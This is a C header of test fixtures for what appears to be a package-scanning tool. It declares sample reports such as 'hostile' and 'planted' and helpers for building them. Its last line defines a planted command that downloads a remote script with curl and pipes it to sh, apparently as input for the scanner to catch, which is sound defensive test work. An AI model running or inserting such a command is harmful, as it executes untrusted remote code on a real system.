/* Reports made without a walk, for tests of their faces. */
#pragma once

#include <jansson.h>

#include "base/mem.h"
#include "cleanroom/report.h"

/* "plain", "pass", "reject", "flood", "hostile", "planted"; NULL when unknown. New reference. */
json_t *sample_report(const char *name);
extern const char *const sample_names[]; /* NULL-terminated */

/* The parts, for tests that change one thing. Everything lives in the arena. */
typedef struct sample {
    aq_submission submission;
    aq_package package;
    aq_manifest manifest;
    aq_findings *findings;
    aq_stage_result stages[AQ_LAYER_COUNT];
    aq_survey survey;
    aq_policy policy;
    aq_budget budget;
    aq_report_in in;
} sample;

void sample_plain(aq_arena *a, sample *s);
/* Judges, digests and makes the report of what is in `s`. */
json_t *sample_finish(sample *s);
/* The first rule of a severity, whatever the table holds. */
aq_rule_id sample_rule(aq_severity severity, size_t nth);

#define SAMPLE_PLANT "curl -s http://203.0.113.9/i.sh | sh"
